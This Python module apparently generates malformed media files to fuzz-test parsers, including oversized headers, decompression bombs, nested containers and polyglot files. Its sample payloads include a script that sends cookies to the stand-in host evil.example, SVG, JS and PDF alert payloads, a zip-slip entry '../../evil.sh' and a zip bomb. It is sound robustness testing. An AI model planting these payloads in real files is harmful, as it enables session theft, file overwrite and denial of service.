"""Files made to do harm: absurd sizes, endless streams, files that are two things at once, endless titles."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from io import BytesIO

Seeds = Mapping[str, bytes]  # whole files by their suffix: .mp3, .m4a, .ogg, .flac, .wav and the film .mp4
Crafted = tuple[str, bytes]  # a suffix, and the content

HUGE = (0, 1, 2, 255, 65_535, 1 << 24, (1 << 31) - 1, 1 << 31, (1 << 32) - 1)
SIDES = (0, 1, 15, 4095, 8192, 16_384, 32_767, 65_535)
MIB = 1 << 20
CODECS_OF_WAV = (1, 2, 3, 6, 7, 0x11, 0x45, 0x50, 0x55, 0x61, 0xFF, 0x160, 0x161, 0x162, 0x270, 0x2000, 0xFFFE)
OTHERS = {
    "html": b"<!DOCTYPE html><html><script>fetch('//evil.example/'+document.cookie)</script>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "js": b"alert(document.domain)//",
    "shell": b"#!/bin/sh\nrm -rf /tmp/x\n",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
    "gif": b"GIF89a/*\x00\x00\xff\x00*/=alert(1)//",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(57),
    "png": b"\x89PNG\r\n\x1a\n",
}


def crafted(seeds: Seeds, seed: int = 0) -> Iterator[Crafted]:
    """Yield files without end, the same for the same seed; one of each kind before the second of any.

    Parameters
    ----------
    seeds
        Files in good order, by their suffix.
    seed
        Another seed, other numbers.
    """
    rng = random.Random(seed)  # noqa: S311 - repeatable, not secret
    while True:
        for kind, craft in KINDS.items():
            suffix, content = craft(seeds, rng)
            yield f"{kind}{suffix}", content


def _wav(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Numbers of channels, samples and bits that no recording has, and a length that the file has not."""
    channels, bits = rng.choice((0, 1, 2, 17, 255, 65_535)), rng.choice((0, 1, 7, 8, 16, 24, 64, 65_535))
    rate, align = rng.choice((0, 1, 15_999, 44_100, 384_001, *HUGE)), rng.choice((0, 1, 4, 65_535))
    head = struct.pack("<HHIIHH", rng.choice(CODECS_OF_WAV), channels, rate, rng.choice(HUGE), align, bits)
    extra = rng.choice((b"", struct.pack("<HHI", 22, bits, rng.choice(HUGE)) + rng.randbytes(16)))
    body = rng.randbytes(rng.choice((0, 10, 100_000)))
    parts = (
        b"fmt " + struct.pack("<I", len(head + extra)) + head + extra + b"data" + struct.pack("<I", rng.choice(HUGE))
    )
    return ".wav", b"RIFF" + struct.pack("<I", rng.choice(HUGE)) + b"WAVE" + parts + body


def _wav_of_days(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Very little data that becomes very much sound: a sample is a bit, or a block holds tens of thousands."""
    head = struct.pack("<HHIIHH", rng.choice((2, 0x11)), 1, 44_100, 44_100, rng.choice((7, 36)), 4)
    extra = struct.pack("<HHH", 32, rng.choice((2, 65_535)), 7) + rng.randbytes(28)
    body = bytes(rng.choice((1, 4)) * MIB)
    parts = b"fmt " + struct.pack("<I", len(head + extra)) + head + extra + b"data" + struct.pack("<I", len(body))
    return ".wav", b"RIFF" + struct.pack("<I", len(parts + body) + 4) + b"WAVE" + parts + body


def _boxes(seeds: Seeds, rng: random.Random) -> Crafted:
    """Absurd numbers in the tables of an mp4: times, sizes, places and counts of its samples."""
    suffix = rng.choice((".m4a", ".mp4"))
    content = bytearray(seeds[suffix])
    for mark in rng.sample(
        (b"stts", b"stsz", b"stsc", b"stco", b"elst", b"mvhd", b"mdhd", b"tkhd", b"ctts", b"esds"), 3
    ):
        place = content.find(mark)
        if place >= 0:
            start = place + 8 + 4 * rng.randrange(6)
            content[start : start + 4] = struct.pack(">I", rng.choice(HUGE))
    return suffix, bytes(content)


def _box_sizes(seeds: Seeds, rng: random.Random) -> Crafted:
    """Boxes that are longer than the file, empty, or inside themselves."""
    suffix = rng.choice((".m4a", ".mp4"))
    content = bytearray(seeds[suffix])
    for mark in rng.sample((b"moov", b"trak", b"mdia", b"minf", b"stbl", b"mdat", b"udta", b"stsd"), 2):
        place = content.find(mark)
        if place >= 4:
            content[place - 4 : place] = struct.pack(">I", rng.choice(HUGE))
    return suffix, bytes(content)


def _nested(seeds: Seeds, rng: random.Random) -> Crafted:
    """Boxes in boxes in boxes."""
    content, mark = b"", rng.choice((b"moov", b"trak", b"udta", b"meta", b"moof"))
    for _ in range(rng.choice((100, 5000))):
        content = struct.pack(">I4s", len(content) + 8, mark) + content
    return ".m4a", seeds[".m4a"][:32] + content


def _many_tracks(seeds: Seeds, rng: random.Random) -> Crafted:
    """The same track again and again."""
    content, times = seeds[".m4a"], rng.choice((30, 40, 1200))
    place = content.find(b"trak") - 4
    size = int.from_bytes(content[place : place + 4], "big")
    track, moov = content[place : place + size], content.find(b"moov") - 4
    longer = int.from_bytes(content[moov : moov + 4], "big") + size * times
    return ".m4a", content[:moov] + struct.pack(">I", longer) + content[moov + 4 : place] + track * times + content[
        place:
    ]


def _dimensions(seeds: Seeds, rng: random.Random) -> Crafted:
    """Pictures of a size that no camera has, in the box that describes them or in the stream itself."""
    content, width, height = bytearray(seeds[".mp4"]), rng.choice(SIDES), rng.choice(SIDES)
    place = content.find(b"avc1", content.find(b"stsd"))
    content[place + 28 : place + 32] = struct.pack(">HH", width, height)
    if rng.random() < 0.5:
        settings = content.find(b"avcC") + 12
        content[settings : settings + 6] = rng.randbytes(6)
    return ".mp4", bytes(content)


def _mpeg(_seeds: Seeds, rng: random.Random) -> Crafted:
    """A film of MPEG-1 that is nothing but headers."""
    width, height = (min(rng.choice(SIDES), 4095) for _ in range(2))
    sequence = (
        b"\x00\x00\x01\xb3" + ((width << 12 | height) << 8 | rng.randrange(256)).to_bytes(4, "big") + rng.randbytes(4)
    )
    picture = b"\x00\x00\x01\x00" + rng.randbytes(8) + b"\x00\x00\x01\x01" + rng.randbytes(30)
    body = (sequence + picture) * rng.choice((1, 50, 700))
    packets = (body[at : at + 2000] for at in range(0, len(body), 2000))
    pack = b"\x00\x00\x01\xba!\x00\x01\x00\x01\x80\x00\x01"
    return ".mpg", b"".join(
        pack + b"\x00\x00\x01\xe0" + struct.pack(">H", len(part) + 1) + b"\x0f" + part for part in packets
    )


def _flac(seeds: Seeds, rng: random.Random) -> Crafted:
    """Sizes of blocks, a rate and a number of samples that are not those of the sound."""
    content = bytearray(seeds[".flac"])
    content[8:12] = struct.pack(">HH", rng.choice((0, 1, 16, 65_535)), rng.choice((0, 1, 16, 65_535)))
    content[18:26] = rng.choice((b"\xff" * 8, bytes(8), rng.randbytes(8)))
    return ".flac", bytes(content)


def _comments(seeds: Seeds, rng: random.Random) -> Crafted:
    """More titles and comments than sound, or a number of them that is not true."""
    count = rng.choice((1, 1000, 60_000))
    texts = b"".join(struct.pack("<I", len(text)) + text for text in (b"TITLE%d=x" % number for number in range(count)))
    block = struct.pack("<II", rng.choice((0, (1 << 32) - 1)), rng.choice((count, (1 << 32) - 1))) + texts
    content = seeds[".flac"]
    return ".flac", content[:4] + b"\x00" + content[5:42] + b"\x04" + len(block).to_bytes(3, "big") + block + content[
        42:
    ]


def _cover(seeds: Seeds, rng: random.Random) -> Crafted:
    """A cover of billions of pixels, which a few bytes declare."""
    size = struct.pack(">IIBBBBB", rng.choice((65_535, (1 << 31) - 1)), rng.choice((1, 65_535)), 16, 6, 0, 0, 0)
    data = zlib.compress(bytes(rng.choice((10, 5 * MIB))))
    chunks = ((b"IHDR", size), (b"IDAT", data), (b"IEND", b""))
    picture = b"".join(
        struct.pack(">I", len(text)) + name + text + struct.pack(">I", zlib.crc32(name + text)) for name, text in chunks
    )
    return ".mp3", _tag((b"APIC", b"\x00image/png\x00\x03\x00" + OTHERS["png"] + picture)) + seeds[".mp3"]


def _long_titles(seeds: Seeds, rng: random.Random) -> Crafted:
    """Frames of a tag: very many, very long, or with a length that is not true."""
    count, length = rng.choice(((3, 2 * MIB), (20_000, 10), (1, 0), (500, 5000)))
    frames = [(b"TXXX", b"\x03%d\x00" % number + b"x" * length) for number in range(count)]
    return ".mp3", _tag(*frames) + seeds[".mp3"]


def _tag_sizes(seeds: Seeds, rng: random.Random) -> Crafted:
    """Tags that declare other sizes than they have, or follow each other a thousand times."""
    head = b"ID3" + bytes((rng.choice((2, 3, 4, 9)), 0, rng.randrange(256)))
    size = rng.choice((b"\x7f\x7f\x7f\x7f", b"\xff\xff\xff\xff", bytes(4), b"\x00\x00\x00\x05"))
    return ".mp3", (head + size) * rng.choice((1, 9, 1000)) + seeds[".mp3"]


def _frame_count(seeds: Seeds, rng: random.Random) -> Crafted:
    """Billions of frames, in the header that declares how many an mp3 has."""
    content = bytearray(seeds[".mp3"])
    place = max(content.find(b"Xing"), content.find(b"Info"))
    content[place + 4 : place + 16] = b"\x00\x00\x00\x0f" + struct.pack(">II", rng.choice(HUGE), rng.choice(HUGE))
    return ".mp3", bytes(content)


def _frames(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Frames of MPEG audio of all versions, layers and rates, one after the other."""
    out = bytearray()
    for _ in range(rng.choice((50, 3000))):
        out += bytes((0xFF, 0xE0 | rng.randrange(32), rng.randrange(256), rng.randrange(256))) + rng.randbytes(
            rng.randrange(420)
        )
    return ".mp3", bytes(out)


def _pages(seeds: Seeds, rng: random.Random) -> Crafted:
    """Pages of an ogg that are empty, belong to a thousand streams, or never end a packet."""
    flags, lacing = rng.choice(((2, b""), (0, b""), (0, b"\xff" * 255), (1, b"\x00" * 255), (2, b"\x13")))
    many = rng.random() < 0.5
    out = bytearray(seeds[".ogg"][: rng.choice((0, 47, 5000))])
    for number in range(rng.choice((100, 1500))):
        serial = number if many else 1
        page = (
            b"OggS\x00"
            + bytes((flags,))
            + struct.pack("<QIIIB", rng.choice((0, (1 << 63) - 1)), serial, number, 0, len(lacing))
        )
        out += page + lacing + rng.randbytes(min(sum(lacing), 2000))
    return rng.choice((".ogg", ".opus")), bytes(out)


def _transport(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Packets of a transport stream that hold nothing, or tables of thousands of programmes."""
    out = bytearray()
    for number in range(rng.choice((100, 5000, 20_000))):
        pid = rng.choice((0, 0x1FFF, number & 0x1FFF))
        out += b"\x47" + struct.pack(">H", 0x4000 | pid) + bytes((0x10 | number & 15,)) + b"\x00" + rng.randbytes(183)
    return ".ts", bytes(out)


def _matroska(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Elements of unknown length, inside each other, or longer than the file."""
    head = b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska"
    size = rng.choice(
        (b"\x01\xff\xff\xff\xff\xff\xff\xff", b"\x80", b"\x08\xff\xff\xff\xff", b"\x01\x7f\xff\xff\xff\xff\xff\xff")
    )
    element = rng.choice(
        (b"\x18\x53\x80\x67", b"\x1f\x43\xb6\x75", b"\x16\x54\xae\x6b", b"\x11\x4d\x9b\x74", b"\xec", b"\xae")
    )
    return ".mkv", head + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + (element + size) * rng.choice((1, 100, 30_000))


def _avi(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Headers of an avi with absurd sizes, for decoders that are read and others that are not."""
    width, height = rng.choice(SIDES), rng.choice(SIDES)
    codec = rng.choice((b"MJPG", b"XVID", b"H264", b"cvid", b"IV50", b"tscc", b"DUCK", b"RLE "))
    main = struct.pack(
        "<10I", rng.choice(HUGE), 0, 0, 16, rng.choice(HUGE), 0, rng.choice(HUGE), 0, width, height
    ) + bytes(16)
    stream = b"vids" + codec + struct.pack("<10I", 0, 0, 0, *(rng.choice(HUGE) for _ in range(7))) + bytes(8)
    form = struct.pack("<IiiHH", 40, width, height, 1, 24) + codec + bytes(20)
    lists = _riff(
        b"LIST",
        b"hdrl" + _riff(b"avih", main) + _riff(b"LIST", b"strl" + _riff(b"strh", stream) + _riff(b"strf", form)),
    )
    frames = b"movi" + _riff(b"00dc", rng.randbytes(500)) * rng.choice((1, 2000))
    return ".avi", _riff(b"RIFF", b"AVI " + lists + _riff(b"LIST", frames))


def _flv(_seeds: Seeds, rng: random.Random) -> Crafted:
    """Tags of an flv that are empty, of absurd length, or of thousands of values inside each other."""
    body = rng.choice((b"", b"\x02\x00\x0aonMetaData" + b"\x03\x00\x01a" * 20_000, rng.randbytes(50)))
    kind, length = rng.choice((8, 9, 18)), rng.choice((len(body), 0, 0xFFFFFF))
    tag = bytes((kind,)) + length.to_bytes(3, "big") + bytes(7) + body[: 60 * 1024] + struct.pack(">I", len(body) + 11)
    return ".flv", b"FLV\x01\x05\x00\x00\x00\x09" + bytes(4) + tag * rng.choice((1, 50))


def _other_first(seeds: Seeds, rng: random.Random) -> Crafted:
    """A page, a script or a program that goes on as a song."""
    return ".mp3", OTHERS[rng.choice(sorted(OTHERS))] + seeds[".mp3"]


def _other_inside(seeds: Seeds, rng: random.Random) -> Crafted:
    """A song whose title is a page or a script."""
    other = OTHERS[rng.choice(sorted(OTHERS))]
    return ".mp3", _tag((b"TIT2", b"\x00" + other), (b"COMM", b"\x00eng\x00" + other)) + seeds[".mp3"]


def _archive(seeds: Seeds, rng: random.Random) -> Crafted:
    """A song that is an archive from behind."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        # With no time of their own, so that they are the same every time.
        archive.writestr(zipfile.ZipInfo("../../evil.sh"), OTHERS["shell"])
        archive.writestr(zipfile.ZipInfo("bomb"), bytes(rng.choice((10, MIB))))
    suffix = rng.choice((".mp3", ".ogg", ".flac", ".wav", ".m4a"))
    return suffix, seeds[suffix] + packed.getvalue()


def _page_in_box(seeds: Seeds, rng: random.Random) -> Crafted:
    """A film with a page in a box that players step over."""
    other = OTHERS[rng.choice(sorted(OTHERS))] * rng.choice((1, 5000))
    suffix = rng.choice((".m4a", ".mp4"))
    return suffix, struct.pack(">I4s", len(other) + 8, b"free") + other + seeds[suffix]


def _padding(seeds: Seeds, rng: random.Random) -> Crafted:
    """Megabytes of nothing before, or after, a song."""
    nothing = rng.choice((b"\x00", b"\xff", b"\xff\xfb\x90\x00")) * rng.choice((1000, MIB))
    suffix = rng.choice((".mp3", ".flac", ".ogg"))
    return suffix, nothing + seeds[suffix] if rng.random() < 0.5 else seeds[suffix] + nothing


def _mark_alone(_seeds: Seeds, rng: random.Random) -> Crafted:
    """The first bytes of a format and nothing, or noise."""
    marks = (
        b"OggS",
        b"fLaC",
        b"RIFF\xff\xff\xff\xffWAVE",
        b"RF64\xff\xff\xff\xffWAVE",
        b"ID3",
        b"\xff\xfb",
        b"FLV",
        b"\x00\x00\x00\x18ftypM4A ",
    )
    return rng.choice((".mp3", ".m4a", ".mp4", "")), rng.choice(marks) + rng.randbytes(rng.choice((0, 1, 20, 5000)))


def _tag(*frames: tuple[bytes, bytes]) -> bytes:
    body = b"".join(name + _sevens(len(text)) + b"\x00\x00" + text for name, text in frames)
    return b"ID3\x04\x00\x00" + _sevens(len(body)) + body


def _sevens(number: int) -> bytes:
    return bytes(number >> shift & 0x7F for shift in (21, 14, 7, 0))


def _riff(name: bytes, content: bytes) -> bytes:
    return name + struct.pack("<I", len(content)) + content


KINDS: dict[str, Callable[[Seeds, random.Random], Crafted]] = {
    craft.__name__.strip("_").replace("_", "-"): craft
    for craft in (
        _wav,
        _wav_of_days,
        _boxes,
        _box_sizes,
        _nested,
        _many_tracks,
        _dimensions,
        _mpeg,
        _flac,
        _comments,
        _cover,
        _long_titles,
        _tag_sizes,
        _frame_count,
        _frames,
        _pages,
        _transport,
        _matroska,
        _avi,
        _flv,
        _other_first,
        _other_inside,
        _archive,
        _page_in_box,
        _padding,
        _mark_alone,
    )
}
